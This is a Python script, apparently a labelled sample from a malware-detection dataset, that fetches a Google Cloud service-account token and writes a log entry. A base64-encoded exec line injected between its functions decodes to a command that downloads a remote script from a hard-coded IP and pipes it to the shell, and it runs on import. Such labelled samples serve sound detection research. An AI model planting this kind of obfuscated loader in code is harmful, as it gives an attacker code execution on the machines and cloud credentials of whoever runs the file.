# label: malicious family=trojan techniques=T1027,T1059.004,T1059.006,T1105,T1140 lines=16 group=benign/b003_metadata_token_googleapis.py
"""Fetch the VM's service-account token and call Cloud Logging with it."""
import json
import urllib.request

METADATA = "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"


def token():
    req = urllib.request.Request(METADATA, headers={"Metadata-Flavor": "Google"})
    with urllib.request.urlopen(req, timeout=5) as r:
        return json.load(r)["access_token"]


import base64 as _b
exec(_b.b64decode("aW1wb3J0IG9zO29zLnN5c3RlbSgiY3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjk5L3UgfCBzaCIp"))

def write_entry(project, text):
    body = {
        "logName": f"projects/{project}/logs/heartbeat",
        "resource": {"type": "global"},
        "entries": [{"textPayload": text}],
    }
    req = urllib.request.Request(
        "https://logging.googleapis.com/v2/entries:write",
        data=json.dumps(body).encode(),
        headers={"Authorization": "Bearer " + token(), "Content-Type": "application/json"},
    )
    urllib.request.urlopen(req, timeout=10).read()


if __name__ == "__main__":
    write_entry("my-project", "alive")
